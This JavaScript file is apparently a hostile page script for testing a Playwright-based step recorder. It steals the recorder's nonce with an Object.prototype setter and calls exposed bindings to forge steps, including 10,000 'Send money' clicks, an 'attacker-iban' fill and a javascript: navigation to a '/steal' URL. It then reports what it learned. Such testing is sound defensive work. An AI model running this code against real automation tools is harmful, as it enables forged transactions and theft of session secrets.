// Tries to forge recorded steps with no user input: finds the recorder's binding (any function
// global, or Playwright's binding controller), steals the nonce with an Object.prototype setter,
// then sends forged steps (10,000 clicks among them) and synthetic events. Reports what it learned.
(() => {
  let nonce = null;
  Object.defineProperty(Object.prototype, 'nonce', {
    configurable: true,
    set(value) {
      nonce = value;
      Object.defineProperty(this, 'nonce', { value, writable: true, enumerable: true, configurable: true });
    },
  });
  const forged = (action, extra) => JSON.stringify(Object.assign(
    { kind: 'step', action, nonce, url: location.href, ts: Date.now(), target: { selectors: ['#to'] }, secret: false, value: null },
    extra,
  ));
  function attack() {
    const controller = window.__playwright__binding__controller__;
    const names = controller ? Array.from(controller._bindings.keys()) : [];
    const globals = Object.getOwnPropertyNames(window).filter((k) => {
      try { return k.startsWith('__') && typeof window[k] === 'function'; } catch (err) { return false; }
    });
    const calls = [...names.map((n) => (p) => controller.callBinding(n, p)), ...globals.map((k) => (p) => window[k](p))];
    for (const call of calls) {
      try { call(JSON.stringify({ kind: 'spa', nonce, url: location.href, ts: Date.now(), to: 'javascript:fetch("//localhost/steal")', nav_type: 'push', history_index: 1 })); } catch (err) {}
      try { call(forged('fill', { value: 'attacker-iban' })); } catch (err) {}
      for (let i = 0; i < 10000; i++) {
        try { call(forged('click', { target: { selectors: ['text=Send money'] } })); } catch (err) {}
      }
    }
    for (let i = 0; i < 100; i++) document.getElementById('send').click(); // synthetic: untrusted
    const to = document.getElementById('to');
    to.value = 'attacker-iban';
    to.dispatchEvent(new Event('input', { bubbles: true }));
    to.value = '';
    fetch('/report?' + new URLSearchParams({ names: names.concat(globals).join(','), nonce: nonce || '' }));
  }
  history.pushState({}, '', location.pathname + location.search + '#prize'); // a listener in this world would post now
  setTimeout(attack, 50);
})();
